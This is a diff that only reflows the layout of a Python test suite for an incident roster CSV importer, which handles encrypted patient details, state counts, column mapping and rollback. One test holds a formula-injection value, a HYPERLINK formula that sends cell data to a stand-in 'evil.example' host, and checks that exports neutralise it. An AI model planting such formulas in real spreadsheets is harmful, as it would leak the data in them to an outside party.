@@ -41,8 +41,9 @@ from tests.roster_helpers import upload
 @pytest.fixture
 def team(session):
     lead = make_user(session, role=Role.RESPONDER)
-    incident = make_incident(session, created_by=lead, members={lead: CaseRole.LEAD},
-                             affected_estimate=40)
+    incident = make_incident(
+        session, created_by=lead, members={lead: CaseRole.LEAD}, affected_estimate=40
+    )
     return lead, incident
 
 
@@ -52,8 +53,14 @@ def store(tmp_path: Path):
 
 
 def people_rows(session, incident_id: int) -> int:
-    return session.scalar(sa.select(sa.func.count()).select_from(RosterPerson).where(
-        RosterPerson.incident_id == incident_id)) or 0
+    return (
+        session.scalar(
+            sa.select(sa.func.count())
+            .select_from(RosterPerson)
+            .where(RosterPerson.incident_id == incident_id)
+        )
+        or 0
+    )
 
 
 def report_rows(session, record: RosterImport, store) -> list[list[str]]:
@@ -71,8 +78,13 @@ def test_an_import_counts_people_per_state_and_feeds_the_incident(session, team,
         person("MRN2", "Luis", "Peña", state="ny", zip_code="12207-1234"),
         person("MRN3", state="", zip_code="02134"),  # state from the ZIP: MA
         person("MRN4", state="D.C.", zip_code="20001"),
-        person("MRN5", state="PR", zip_code="00901", deceased="Y",
-               nok=("Rosa Peña", "1 Calle Luna", "San Juan", "PR", "00901")),
+        person(
+            "MRN5",
+            state="PR",
+            zip_code="00901",
+            deceased="Y",
+            nok=("Rosa Peña", "1 Calle Luna", "San Juan", "PR", "00901"),
+        ),
         person("MRN6", state="", zip_code="", line1="", city=""),  # nothing known
     )
 
@@ -88,22 +100,32 @@ def test_an_import_counts_people_per_state_and_feeds_the_incident(session, team,
     assert counts.insufficient_contact_living == 1  # MRN6 only; MRN5 is deceased
     session.refresh(incident)
     assert (incident.roster_total, incident.insufficient_contact_living) == (6, 1)
-    stored = {(c.state, c.residents) for c in incident.state_counts
-              if c.source == CountSource.ROSTER}
+    stored = {
+        (c.state, c.residents) for c in incident.state_counts if c.source == CountSource.ROSTER
+    }
     assert stored == {("DC", 1), ("MA", 1), ("NY", 2), ("PR", 1)}
 
 
 def test_phi_is_encrypted_and_reads_back_with_its_row_key(session, team, store) -> None:
     lead, incident = team
-    import_csv(session, actor=lead, incident_id=incident.id, store=store,
-               data=csv_bytes(person("MRN-77", "Zoë", "O'Brien", email="zoe@example.org")))
+    import_csv(
+        session,
+        actor=lead,
+        incident_id=incident.id,
+        store=store,
+        data=csv_bytes(person("MRN-77", "Zoë", "O'Brien", email="zoe@example.org")),
+    )
 
     blob = session.scalar(sa.select(RosterPerson.phi))
     assert b"O'Brien" not in blob and b"MRN-77" not in blob and b"zoe@" not in blob
     person_row = session.scalar(sa.select(RosterPerson))
     phi = roster.decrypt(store.keyring, person_row)
-    assert (phi["ext"], phi["fn"], phi["ln"], phi["dob"]) == ("MRN-77", "Zoë", "O'Brien",
-                                                               "1980-04-02")
+    assert (phi["ext"], phi["fn"], phi["ln"], phi["dob"]) == (
+        "MRN-77",
+        "Zoë",
+        "O'Brien",
+        "1980-04-02",
+    )
 
 
 def test_semicolons_a_bom_and_quoted_fields_are_read(session, team, store) -> None:
@@ -111,9 +133,32 @@ def test_semicolons_a_bom_and_quoted_fields_are_read(session, team, store) -> No
     header = HEADER.replace(",", ";")
     row = person("MRN1", "Ana", "Smith, Jr.", line1='Apt "B"; 4 Main St').replace(",", ";")
     # person() quoted the cells that contain delimiters for commas; redo it for semicolons.
-    row = ";".join(["MRN1", "Ana", '"Smith, Jr."', "1980-04-02", '"Apt ""B""; 4 Main St"', "",
-                    "Albany", "NY", "12207", "", "", "", "", "", "", "", "", "", "", "", "",
-                    ""])
+    row = ";".join(
+        [
+            "MRN1",
+            "Ana",
+            '"Smith, Jr."',
+            "1980-04-02",
+            '"Apt ""B""; 4 Main St"',
+            "",
+            "Albany",
+            "NY",
+            "12207",
+            "",
+            "",
+            "",
+            "",
+            "",
+            "",
+            "",
+            "",
+            "",
+            "",
+            "",
+            "",
+            "",
+        ]
+    )
     data = csv_bytes(row, header=header, bom=True)
 
     record = import_csv(session, actor=lead, incident_id=incident.id, data=data, store=store)
@@ -155,7 +200,8 @@ def test_bad_rows_go_to_the_report_and_good_rows_are_imported(session, team, sto
 
 
 def test_formula_values_are_stored_as_text_and_neutralised_in_the_report(
-        session, team, store) -> None:
+    session, team, store
+) -> None:
     lead, incident = team
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     data = csv_bytes(person("MRN1", first=evil), person("MRN2", state="@SUM(1)"))
@@ -166,8 +212,11 @@ def test_formula_values_are_stored_as_text_and_neutralised_in_the_report(
     assert phi["fn"] == evil  # stored exactly as given
     rows = report_rows(session, record, store)
     assert rows[1][4] == "'@SUM(1)"
-    exported = "".join(roster.export_roster(session, actor=lead, now=NOW,
-                                            incident_id=incident.id, keyring=store.keyring))
+    exported = "".join(
+        roster.export_roster(
+            session, actor=lead, now=NOW, incident_id=incident.id, keyring=store.keyring
+        )
+    )
     line = list(csv.reader(io.StringIO(exported)))[1]
     assert line[2] == "'" + evil
     assert all(not cell.startswith(("=", "+", "-", "@")) for cell in line)
@@ -192,29 +241,50 @@ def test_duplicates_in_a_file_are_merged_into_the_first_record(session, team, st
 
 
 def test_append_merges_people_already_on_the_roster_and_replace_starts_over(
-        session, team, store) -> None:
+    session, team, store
+) -> None:
     lead, incident = team
-    import_csv(session, actor=lead, incident_id=incident.id, store=store,
-               data=csv_bytes(person("MRN1"), person("MRN2", state="CA", zip_code="94105")))
+    import_csv(
+        session,
+        actor=lead,
+        incident_id=incident.id,
+        store=store,
+        data=csv_bytes(person("MRN1"), person("MRN2", state="CA", zip_code="94105")),
+    )
 
-    appended = import_csv(session, actor=lead, incident_id=incident.id, store=store,
-                          mode=ImportMode.APPEND,
-                          data=csv_bytes(person("MRN2", state="CA", zip_code="94105"),
-                                         person("MRN3", state="TX", zip_code="73301")))
+    appended = import_csv(
+        session,
+        actor=lead,
+        incident_id=incident.id,
+        store=store,
+        mode=ImportMode.APPEND,
+        data=csv_bytes(
+            person("MRN2", state="CA", zip_code="94105"),
+            person("MRN3", state="TX", zip_code="73301"),
+        ),
+    )
     assert appended.rows_merged == 1
     assert roster.count(session, incident.id).by_state == {"CA": 1, "NY": 1, "TX": 1}
 
-    replaced = import_csv(session, actor=lead, incident_id=incident.id, store=store,
-                          data=csv_bytes(person("MRN8", state="FL", zip_code="33101")))
+    replaced = import_csv(
+        session,
+        actor=lead,
+        incident_id=incident.id,
+        store=store,
+        data=csv_bytes(person("MRN8", state="FL", zip_code="33101")),
+    )
     assert replaced.status is ImportStatus.COMMITTED
     assert roster.count(session, incident.id).by_state == {"FL": 1}
-    statuses = session.scalars(sa.select(RosterImport.status).where(
-        RosterImport.incident_id == incident.id).order_by(RosterImport.id)).all()
-    assert statuses == [ImportStatus.SUPERSEDED, ImportStatus.SUPERSEDED,
-                        ImportStatus.COMMITTED]
+    statuses = session.scalars(
+        sa.select(RosterImport.status)
+        .where(RosterImport.incident_id == incident.id)
+        .order_by(RosterImport.id)
+    ).all()
+    assert statuses == [ImportStatus.SUPERSEDED, ImportStatus.SUPERSEDED, ImportStatus.COMMITTED]
     assert people_rows(session, incident.id) == 1  # superseded rows were purged
-    actions = session.scalars(sa.select(AuditEvent.action).where(
-        AuditEvent.incident_id == incident.id)).all()
+    actions = session.scalars(
+        sa.select(AuditEvent.action).where(AuditEvent.incident_id == incident.id)
+    ).all()
     assert actions.count("roster.import_uploaded") == 3
     assert actions.count("roster.import_committed") == 3
 
@@ -254,7 +324,8 @@ def test_a_binary_file_renamed_csv_is_refused(session, team, store) -> None:
 
 
 def test_a_file_over_the_size_limit_is_refused_before_it_is_read(
-        session, team, store, tmp_path: Path) -> None:
+    session, team, store, tmp_path: Path
+) -> None:
     lead, incident = team
     sparse = tmp_path / "huge.csv"
     with open(sparse, "wb") as handle:  # 200 MB on paper, no blocks on disk
@@ -262,9 +333,16 @@ def test_a_file_over_the_size_limit_is_refused_before_it_is_read(
 
     with open(sparse, "rb") as handle, pytest.raises(ValidationFailed) as caught:
         roster_import.create_import(
-            session, actor=lead, now=NOW, incident_id=incident.id, upload=handle,
-            filename="huge.csv", mode=ImportMode.REPLACE, store=store,
-            max_bytes=150 * 1024 * 1024)
+            session,
+            actor=lead,
+            now=NOW,
+            incident_id=incident.id,
+            upload=handle,
+            filename="huge.csv",
+            mode=ImportMode.REPLACE,
+            store=store,
+            max_bytes=150 * 1024 * 1024,
+        )
         assert handle.tell() == 0  # pragma: no cover - raised before
 
     assert "The file is 200.0 MB; a roster file may be at most 150 MB" in str(caught.value)
@@ -277,63 +355,114 @@ def test_a_file_over_a_small_configured_limit_is_refused(session, team, store) -
 
 
 def test_a_missing_required_column_asks_for_a_mapping_and_cannot_be_skipped(
-        session, team, store) -> None:
+    session, team, store
+) -> None:
     lead, incident = team
     header = HEADER.replace("date_of_birth", "notes")
-    record = upload(session, actor=lead, incident_id=incident.id, store=store,
-                    data=csv_bytes(person("MRN1"), header=header))
+    record = upload(
+        session,
+        actor=lead,
+        incident_id=incident.id,
+        store=store,
+        data=csv_bytes(person("MRN1"), header=header),
+    )
     assert record.status is ImportStatus.NEEDS_MAPPING
     assert run_worker(session, store) is None  # not queued: the worker leaves it alone
 
     with pytest.raises(ValidationFailed) as caught:
-        roster_import.confirm_mapping(session, actor=lead, now=NOW, incident_id=incident.id,
-                                      import_id=record.id, mapping=record.mapping)
+        roster_import.confirm_mapping(
+            session,
+            actor=lead,
+            now=NOW,
+            incident_id=incident.id,
+            import_id=record.id,
+            mapping=record.mapping,
+        )
     assert caught.value.field == "date_of_birth"
     assert str(caught.value).startswith("Date of birth is required")
     assert people_rows(session, incident.id) == 0
 
 
-def test_a_confirmed_mapping_is_used_and_remembered_for_the_incident(
-        session, team, store) -> None:
+def test_a_confirmed_mapping_is_used_and_remembered_for_the_incident(session, team, store) -> None:
     lead, incident = team
-    header = ("Patient MRN,Given,Family,Birth,Street,City,ST,Postal,Extra")
+    header = "Patient MRN,Given,Family,Birth,Street,City,ST,Postal,Extra"
     row = "A1,Ana,Ruiz,1970-01-05,1 Main St,Austin,TX,73301,x"
-    record = upload(session, actor=lead, incident_id=incident.id, store=store,
-                    data=csv_bytes(row, header=header))
+    record = upload(
+        session,
+        actor=lead,
+        incident_id=incident.id,
+        store=store,
+        data=csv_bytes(row, header=header),
+    )
     assert record.status is ImportStatus.NEEDS_MAPPING
-    mapping = {"external_id": "Patient MRN", "first_name": "Given", "last_name": "Family",
-               "date_of_birth": "Birth", "address_line1": "Street", "city": "City",
-               "state": "ST", "zip": "Postal"}
+    mapping = {
+        "external_id": "Patient MRN",
+        "first_name": "Given",
+        "last_name": "Family",
+        "date_of_birth": "Birth",
+        "address_line1": "Street",
+        "city": "City",
+        "state": "ST",
+        "zip": "Postal",
+    }
 
-    roster_import.confirm_mapping(session, actor=lead, now=NOW, incident_id=incident.id,
-                                  import_id=record.id, mapping=mapping)
+    roster_import.confirm_mapping(
+        session, actor=lead, now=NOW, incident_id=incident.id, import_id=record.id, mapping=mapping
+    )
     assert run_worker(session, store).status is ImportStatus.COMMITTED
     assert session.get(RosterMapping, incident.id).mapping == mapping
 
-    again = upload(session, actor=lead, incident_id=incident.id, store=store,
-                   data=csv_bytes(row.replace("A1", "A2"), header=header))
+    again = upload(
+        session,
+        actor=lead,
+        incident_id=incident.id,
+        store=store,
+        data=csv_bytes(row.replace("A1", "A2"), header=header),
+    )
     assert again.status is ImportStatus.QUEUED
 
 
 def test_a_header_used_twice_in_a_mapping_is_refused(session, team, store) -> None:
     lead, incident = team
-    record = upload(session, actor=lead, incident_id=incident.id, store=store,
-                    data=csv_bytes("1,2", header="a,b"))
-    mapping = dict.fromkeys(("external_id", "first_name", "last_name", "date_of_birth",
-                             "address_line1", "city", "state", "zip"), "a")
+    record = upload(
+        session,
+        actor=lead,
+        incident_id=incident.id,
+        store=store,
+        data=csv_bytes("1,2", header="a,b"),
+    )
+    mapping = dict.fromkeys(
+        (
+            "external_id",
+            "first_name",
+            "last_name",
+            "date_of_birth",
+            "address_line1",
+            "city",
+            "state",
+            "zip",
+        ),
+        "a",
+    )
     with pytest.raises(ValidationFailed, match="already used for External id"):
-        roster_import.confirm_mapping(session, actor=lead, now=NOW, incident_id=incident.id,
-                                      import_id=record.id, mapping=mapping)
+        roster_import.confirm_mapping(
+            session,
+            actor=lead,
+            now=NOW,
+            incident_id=incident.id,
+            import_id=record.id,
+            mapping=mapping,
+        )
 
 
 # -- files that fail part-way: nothing imported ---------------------------------------------------
 
 
-def test_a_file_that_stops_being_utf8_after_the_head_imports_nothing(
-        session, team, store) -> None:
+def test_a_file_that_stops_being_utf8_after_the_head_imports_nothing(session, team, store) -> None:
     lead, incident = team
-    import_csv(session, actor=lead, incident_id=incident.id, store=store,
-               data=csv_bytes(person("OLD1")))
+    import_csv(
+        session, actor=lead, incident_id=incident.id, store=store, data=csv_bytes(person("OLD1"))
+    )
     good = [person(f"MRN{n}") for n in range(1500)]  # > 64 KB of good rows first
     data = csv_bytes(*good) + person("BAD", "José").encode("latin-1") + b"\r\n"
 
@@ -348,8 +477,13 @@ def test_a_file_that_stops_being_utf8_after_the_head_imports_nothing(
 
 def test_a_file_where_every_row_is_rejected_imports_nothing(session, team, store) -> None:
     lead, incident = team
-    record = import_csv(session, actor=lead, incident_id=incident.id, store=store,
-                        data=csv_bytes(person("MRN1", state="ZZ")))
+    record = import_csv(
+        session,
+        actor=lead,
+        incident_id=incident.id,
+        store=store,
+        data=csv_bytes(person("MRN1", state="ZZ")),
+    )
     assert record.status is ImportStatus.FAILED
     assert record.message.startswith("None of the 1 rows could be imported")
     session.refresh(incident)
@@ -358,25 +492,36 @@ def test_a_file_where_every_row_is_rejected_imports_nothing(session, team, store
 
 def test_a_cancelled_import_is_not_run(session, team, store) -> None:
     lead, incident = team
-    record = upload(session, actor=lead, incident_id=incident.id, store=store,
-                    data=csv_bytes(person("MRN1")))
-    roster_import.cancel_import(session, actor=lead, now=NOW, incident_id=incident.id,
-                                import_id=record.id)
+    record = upload(
+        session, actor=lead, incident_id=incident.id, store=store, data=csv_bytes(person("MRN1"))
+    )
+    roster_import.cancel_import(
+        session, actor=lead, now=NOW, incident_id=incident.id, import_id=record.id
+    )
     assert run_worker(session, store) is None
     with pytest.raises(InvalidTransition):
-        roster_import.cancel_import(session, actor=lead, now=NOW, incident_id=incident.id,
-                                    import_id=record.id)
+        roster_import.cancel_import(
+            session, actor=lead, now=NOW, incident_id=incident.id, import_id=record.id
+        )
 
 
 def test_an_interrupted_import_is_cleaned_up_and_queued_again(session, team, store) -> None:
     lead, incident = team
-    record = upload(session, actor=lead, incident_id=incident.id, store=store,
-                    data=csv_bytes(person("MRN1")))
+    record = upload(
+        session, actor=lead, incident_id=incident.id, store=store, data=csv_bytes(person("MRN1"))
+    )
     # What a killed worker leaves: RUNNING, an old heartbeat, invisible staged rows.
     record.status, record.attempts = ImportStatus.RUNNING, 1
     record.heartbeat_at = NOW.replace(hour=NOW.hour - 1)
-    session.add(RosterPerson(incident_id=incident.id, import_id=record.id, row_number=2,
-                             phi=b"x", address_status="missing"))
+    session.add(
+        RosterPerson(
+            incident_id=incident.id,
+            import_id=record.id,
+            row_number=2,
+            phi=b"x",
+            address_status="missing",
+        )
+    )
     session.commit()
     assert roster.count(session, incident.id).total == 0
 
@@ -387,12 +532,23 @@ def test_an_interrupted_import_is_cleaned_up_and_queued_again(session, team, sto
 
 
 def test_a_database_error_while_staging_stops_the_import_and_leaves_the_roster_as_it_was(
-        session, team, store, monkeypatch) -> None:
+    session, team, store, monkeypatch
+) -> None:
     lead, incident = team
-    import_csv(session, actor=lead, incident_id=incident.id, store=store,
-               data=csv_bytes(person("OLD1", "Ana"), person("OLD2", "Bea")))
-    record = upload(session, actor=lead, incident_id=incident.id, store=store,
-                    data=csv_bytes(*[person(f"MRN{n}") for n in range(50)]))
+    import_csv(
+        session,
+        actor=lead,
+        incident_id=incident.id,
+        store=store,
+        data=csv_bytes(person("OLD1", "Ana"), person("OLD2", "Bea")),
+    )
+    record = upload(
+        session,
+        actor=lead,
+        incident_id=incident.id,
+        store=store,
+        data=csv_bytes(*[person(f"MRN{n}") for n in range(50)]),
+    )
     real_stage_rows, calls = roster_import.roster_pool.stage_rows, []
 
     def failing_second_batch(connection, rows) -> None:
@@ -405,8 +561,9 @@ def test_a_database_error_while_staging_stops_the_import_and_leaves_the_roster_a
     threads_before, gc_before = threading.active_count(), gc.get_threshold()
 
     with pytest.raises(sa.exc.OperationalError, match="disk I/O error"):
-        roster_import.run_next(session, keyring=store.keyring, store=store,
-                               clock=lambda: NOW, batch_rows=20)
+        roster_import.run_next(
+            session, keyring=store.keyring, store=store, clock=lambda: NOW, batch_rows=20
+        )
 
     session.rollback()
     assert calls == [20, 20]  # the writer stopped at the failing batch
@@ -415,8 +572,11 @@ def test_a_database_error_while_staging_stops_the_import_and_leaves_the_roster_a
     assert (gc.get_threshold(), gc.get_freeze_count()) == (gc_before, 0)
     assert session.get(RosterImport, record.id).status is ImportStatus.RUNNING
     assert roster.count(session, incident.id).total == 2  # the old roster, untouched
-    staged = sa.select(sa.func.count()).select_from(RosterPerson).where(
-        RosterPerson.import_id == record.id)
+    staged = (
+        sa.select(sa.func.count())
+        .select_from(RosterPerson)
+        .where(RosterPerson.import_id == record.id)
+    )
     assert session.scalar(staged) == 20  # the first batch: staged, never visible
     # The worker job logs it; recovery drops the staged rows and queues the file again.
     later = NOW.replace(hour=NOW.hour + 1)
@@ -431,20 +591,37 @@ def test_only_the_team_can_upload(session, team, store) -> None:
     _lead, incident = team
     outsider = make_user(session, role=Role.RESPONDER)
     with pytest.raises(NotFound):
-        upload(session, actor=outsider, incident_id=incident.id, store=store,
-               data=csv_bytes(person("MRN1")))
+        upload(
+            session,
+            actor=outsider,
+            incident_id=incident.id,
+            store=store,
+            data=csv_bytes(person("MRN1")),
+        )
 
 
 def test_roster_state_counts_replace_the_estimate_which_stays_as_history(
-        session, team, store) -> None:
+    session, team, store
+) -> None:
     lead, incident = team
-    session.add(StateCount(incident_id=incident.id, source=CountSource.ESTIMATE, state="NY",
-                           residents=40))
+    session.add(
+        StateCount(incident_id=incident.id, source=CountSource.ESTIMATE, state="NY", residents=40)
+    )
     session.commit()
-    import_csv(session, actor=lead, incident_id=incident.id, store=store,
-               data=csv_bytes(person("MRN1"), person("MRN2", state="VT", zip_code="05401")))
-    rows = session.execute(sa.select(StateCount.source, StateCount.state, StateCount.residents)
-                           .where(StateCount.incident_id == incident.id)
-                           .order_by(StateCount.source, StateCount.state)).all()
-    assert [tuple(r) for r in rows] == [("estimate", "NY", 40), ("roster", "NY", 1),
-                                        ("roster", "VT", 1)]
+    import_csv(
+        session,
+        actor=lead,
+        incident_id=incident.id,
+        store=store,
+        data=csv_bytes(person("MRN1"), person("MRN2", state="VT", zip_code="05401")),
+    )
+    rows = session.execute(
+        sa.select(StateCount.source, StateCount.state, StateCount.residents)
+        .where(StateCount.incident_id == incident.id)
+        .order_by(StateCount.source, StateCount.state)
+    ).all()
+    assert [tuple(r) for r in rows] == [
+        ("estimate", "NY", 40),
+        ("roster", "NY", 1),
+        ("roster", "VT", 1),
+    ]
